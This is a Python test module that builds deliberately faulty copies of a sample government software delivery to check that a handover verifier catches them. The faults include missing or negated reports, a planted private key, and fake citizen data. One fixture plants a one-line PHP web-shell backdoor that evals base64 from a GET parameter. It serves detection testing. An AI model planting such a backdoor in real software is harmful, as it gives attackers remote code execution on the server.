"""Faults in the real files of the complete sample: what a careless or dishonest vendor does to a delivery.

Each fault changes a copy of `sample_projects/buku-surat/`. What it must break, under each regulation, stands in
sample_faults.yaml; `python -m tests.sample_faults` writes that file anew, to be read before it is committed.
"""

from __future__ import annotations

import importlib
import shutil
import sys
import tempfile
from collections.abc import Callable, Mapping
from dataclasses import replace
from functools import cache
from pathlib import Path
from types import MappingProxyType
from typing import Any

import yaml
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec

from handover.bench import Bench
from handover.cache import Cache
from handover.examine import agency_of
from handover.gather import gather
from handover.intake import open_delivery
from handover.model import Facts
from handover.policy import Policy, load
from handover.probes import ASKED
from handover.shipped import CHECKS
from handover.verify import verify
from handover.workers import Workers
from tests.test_security_personal import csv, numbers

SAMPLES = Path(__file__).parents[1] / "sample_projects"
GOOD = SAMPLES / "buku-surat"
EXPECTED = Path(__file__).with_name("sample_faults.yaml")
REGULATIONS = ("cianjur-25-2018", "banjarmasin-41-2018", "tanah-laut-25-2018", "prabumulih-64-2017")
# By regulation: each requirement that a fault breaks, with its answer then.
Broken = dict[str, dict[str, str]]
Change = Callable[[Path], None]

DOCUMENTS = {
    "business-architecture": "01-arsitektur-proses-bisnis.docx",
    "data-architecture": "02-arsitektur-data.docx",
    "application-architecture": "03-arsitektur-aplikasi.odt",
    "infrastructure-architecture": "04-arsitektur-infrastruktur.pdf",
    "requirements": "05-spesifikasi-kebutuhan.docx",
    "technical": "06-dokumen-teknis.docx",
    "user-manual": "07-panduan-pengguna.docx",
    "admin-manual": "08-panduan-pengelola.odt",
    "functional-test": "09-laporan-uji-fungsi.docx",
    "performance-test": "10-laporan-uji-performa.odt",
    "security-test": "11-laporan-uji-keamanan.pdf",
    "minutes": "12-berita-acara-pengujian.pdf",
    "work-report": "13-laporan-pelaksanaan-pekerjaan.docx",
    "copyright": "14-pengalihan-hak-cipta.pdf",
}
REPORTS = {
    "functional-test": ("buku-surat/09-uji-fungsi.md", (("dinyatakan **LOLOS**", "dinyatakan **TIDAK LOLOS**"),)),
    "performance-test": ("buku-surat/10-uji-performa.md", (("dinyatakan **lolos", "dinyatakan **tidak lolos"),)),
    "security-test": ("buku-surat/11-uji-keamanan.md", (("dinyatakan **lolos", "dinyatakan **tidak lolos"),)),
}


def _document(folder: Path, name: str) -> Path:
    return folder / "dokumen" / DOCUMENTS[name]


def drop(*patterns: str) -> Change:
    """Leaves files and folders out."""

    def change(folder: Path) -> None:
        for pattern in patterns:
            found = sorted(folder.glob(pattern))
            assert found, pattern
            for path in found:
                if path.is_dir():
                    shutil.rmtree(path)
                else:
                    path.unlink()

    return change


def drop_documents(*names: str) -> Change:
    """Leaves documents out."""
    return drop(*(f"dokumen/{DOCUMENTS[name]}" for name in names))


def each(*changes: Change) -> Change:
    """Several faults at once."""

    def change(folder: Path) -> None:
        for one in changes:
            one(folder)

    return change


def rewrite(name: str, made: Callable[[bytes], bytes]) -> Change:
    """Other bytes in a document's place."""

    def change(folder: Path) -> None:
        path = _document(folder, name)
        path.write_bytes(made(path.read_bytes()))

    return change


def empty(name: str) -> Change:
    """A document of no bytes."""
    return rewrite(name, lambda _: b"")


def cut(name: str) -> Change:
    """A document that ends in the middle, as after a broken transfer."""
    return rewrite(name, lambda data: data[: len(data) // 2])


def copy_over(source: str, target: str) -> Change:
    """One document delivered twice, the second time as another."""
    data = (GOOD / "dokumen" / DOCUMENTS[source]).read_bytes()
    return rewrite(target, lambda _: data)


def rename(name: str, new: str) -> Change:
    """A document under a name that says something else, or nothing; the manifest follows."""

    def change(folder: Path) -> None:
        _document(folder, name).rename(folder / "dokumen" / new)
        edit("handover.yml", DOCUMENTS[name], new)(folder)

    return change


def swap(one: str, other: str) -> Change:
    """Each of two documents under the other's name."""

    def change(folder: Path) -> None:
        first, second = _document(folder, one), _document(folder, other)
        aside = first.read_bytes()
        first.write_bytes(second.read_bytes())
        second.write_bytes(aside)

    return change


def reword(name: str, source: str, *words: tuple[str, str]) -> Change:
    """A document made anew from its manuscript, with other words."""
    return rewrite(name, lambda _: _making().document(source, DOCUMENTS[name], words))


def plant(path: str, text: str) -> Change:
    """One more file."""

    def change(folder: Path) -> None:
        target = folder / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text, "utf-8")

    return change


def edit(path: str, old: str, new: str) -> Change:
    """Other words in one text file."""

    def change(folder: Path) -> None:
        text = (folder / path).read_text("utf-8")
        assert old in text, (path, old)
        (folder / path).write_text(text.replace(old, new), "utf-8")

    return change


@cache
def _making() -> Any:
    """The samples' own generator, which is no package of ours."""
    sys.path.insert(0, str(SAMPLES))
    try:
        return importlib.import_module("making.samples")
    finally:
        sys.path.remove(str(SAMPLES))


def _key() -> str:
    form, plain = serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    made = ec.derive_private_key(2026, ec.SECP256R1()).private_bytes(serialization.Encoding.PEM, form, plain)
    return made.decode()


def nothing(_: Path) -> None:
    """No change."""


_SECURITY = "buku-surat/11-uji-keamanan.md"
_FUNCTIONS = "buku-surat/09-uji-fungsi.md"
_PERFORMANCE = "buku-surat/10-uji-performa.md"
_COPYRIGHT = "buku-surat/14-hak-cipta.md"
_BACKDOOR = "<?php\nif (isset($_GET['c'])) {\n    eval(base64_decode($_GET['c']));\n}\n"
FAULTS: Mapping[str, Change] = MappingProxyType(
    {
        "nothing": nothing,
        **{f"drop-{name}": drop_documents(name) for name in DOCUMENTS},
        "drop-both-manuals": drop_documents("user-manual", "admin-manual"),
        "drop-all-documents": drop("dokumen"),
        "drop-all-source": drop("bukusurat", "tests", "openapi.yaml", "pemasangan"),
        "drop-handover-yml": drop("handover.yml"),
        "drop-publiccode-yml": drop("publiccode.yml"),
        "drop-licence": drop("LICENSE"),
        "empty-manual-and-technical": each(empty("user-manual"), empty("technical")),
        "empty-security-test": empty("security-test"),
        "cut-data-architecture": cut("data-architecture"),
        "cut-security-test": cut("security-test"),
        "rename-security-test": rename("security-test", "foto-peresmian.pdf"),
        "rename-technical-to-manual": rename("technical", "buku-panduan.docx"),
        "swap-two-architectures": swap("business-architecture", "data-architecture"),
        "performance-test-as-security-test": copy_over("performance-test", "security-test"),
        "negate-security-test": each(
            drop_documents("minutes"),
            reword("security-test", _SECURITY, ("**lolos uji keamanan**", "**tidak lolos uji keamanan**")),
        ),
        "negate-performance-test": each(
            drop_documents("minutes"),
            reword("performance-test", _PERFORMANCE, ("**lolos uji performa**", "**belum lolos uji performa**")),
        ),
        "negate-functional-test": each(
            drop_documents("minutes"),
            reword("functional-test", _FUNCTIONS, ("**LOLOS** uji", "**TIDAK LOLOS** uji")),
        ),
        "negate-the-minutes": reword(
            "minutes",
            "buku-surat/12-berita-acara-uji.md",
            ("**telah dinyatakan lolos uji**", "**dinyatakan belum lolos uji**"),
            ("serta layak dioperasikan", "serta belum layak dioperasikan"),
        ),
        "copyright-stays-with-vendor": reword(
            "copyright", _COPYRIGHT, ("mengalihkan", "tidak mengalihkan"), ("Mengalihkan", "Tidak mengalihkan")
        ),
        "plant-private-key": plant("pemasangan/server.key", _key()),
        "plant-citizens-data": plant("pemasangan/warga.csv", csv(numbers(40))),
        "plant-backdoor": plant("bukusurat/templat/thumb.php", _BACKDOOR),
        "plant-commercial-part": plant(
            "package.json", '{"name": "x", "dependencies": {"ag-grid-enterprise": "^32.0.0"}}\n'
        ),
        "data-store-outside": plant(".env", "DB_CONNECTION=pgsql\nDB_HOST=db.contoh-awan.com\nDB_DATABASE=surat\n"),
        "spoil-handover-yml": edit("handover.yml", "schema_version: 1", "schema_version: [1"),
    }
)


class Examiner:
    """Gathers facts of changed copies with one bench, and asks what every regulation asks."""

    def __init__(self, workers: Workers, home: Path) -> None:
        self._policy: Policy = load(CHECKS, ASKED)
        self._bench = Bench(workers, Cache(home) if home else Cache.default())
        self._workers = workers

    def broken(self, change: Change) -> Broken:
        """What a change breaks: the answers that are no longer those on the good sample."""
        good, changed = self._good(), self._answers(change)
        return {
            regulation: {name: answer for name, answer in found.items() if answer != good[regulation][name]}
            for regulation, found in changed.items()
        }

    @cache  # noqa: B019
    def _good(self) -> Broken:
        return self._answers(nothing)

    def _answers(self, change: Change) -> Broken:
        with tempfile.TemporaryDirectory() as place:
            folder = Path(place) / "kiriman"
            shutil.copytree(GOOD, folder)
            change(folder)
            facts = self._facts(folder)
        return {name: self._asked(name, facts) for name in REGULATIONS}

    def _facts(self, folder: Path) -> Facts:
        with open_delivery(folder, workers=self._workers) as delivery:
            return gather(delivery, self._policy, self._bench, agency_of(_agency(REGULATIONS[0]))).facts

    def _asked(self, regulation: str, facts: Facts) -> dict[str, str]:
        told = replace(facts, agency=agency_of(_agency(regulation)).manifest)
        answers = verify(self._policy, self._policy.regulations[regulation], told).answers
        return {name: str(verified.reply.answer) for name, verified in answers.items()}


def _agency(regulation: str) -> Path:
    return SAMPLES / "buku-surat.instansi" / f"instansi-{regulation}.yml"


def expected() -> dict[str, Broken]:
    """What each fault must break, by fault."""
    found: dict[str, Broken] = yaml.safe_load(EXPECTED.read_text("utf-8"))
    return found


def main(names: list[str]) -> None:
    """Writes what each fault breaks now; with names, only prints those."""
    with Workers() as workers:
        examiner = Examiner(workers, Path(tempfile.mkdtemp()))
        found = {name: examiner.broken(FAULTS[name]) for name in names or FAULTS}
    text = yaml.safe_dump(found, sort_keys=False, width=120)
    if names:
        sys.stdout.write(text)
    else:
        EXPECTED.write_text(text, "utf-8")


if __name__ == "__main__":
    main(sys.argv[1:])
